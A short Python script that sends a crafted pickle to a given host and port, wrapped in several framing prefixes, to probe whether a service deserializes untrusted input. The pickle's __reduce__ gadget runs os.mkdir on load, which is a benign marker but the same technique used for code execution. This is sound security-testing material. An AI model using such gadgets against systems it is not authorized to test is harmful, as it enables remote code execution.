"""Sends pickles that make a folder to an address and port, and prints how many bytes it hears."""

from __future__ import annotations

import os
import pickle
import socket
import struct
import sys


class Bomb:
    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, ("/tmp/unpickled",)


def hear(address: str, port: int, said: bytes) -> int:
    heard = 0
    with socket.create_connection((address, port)) as sock:
        try:
            sock.sendall(said)
            while piece := sock.recv(4096):
                heard += len(piece)
        except ConnectionError:
            pass  # thrown out with something unread
    return heard


if __name__ == "__main__":
    bomb = pickle.dumps(Bomb())
    for head in (b"", bytes(64), struct.pack(">I", len(bomb)), bytes(4096)):
        print(hear(sys.argv[1], int(sys.argv[2]), head + bomb + bytes(64)))
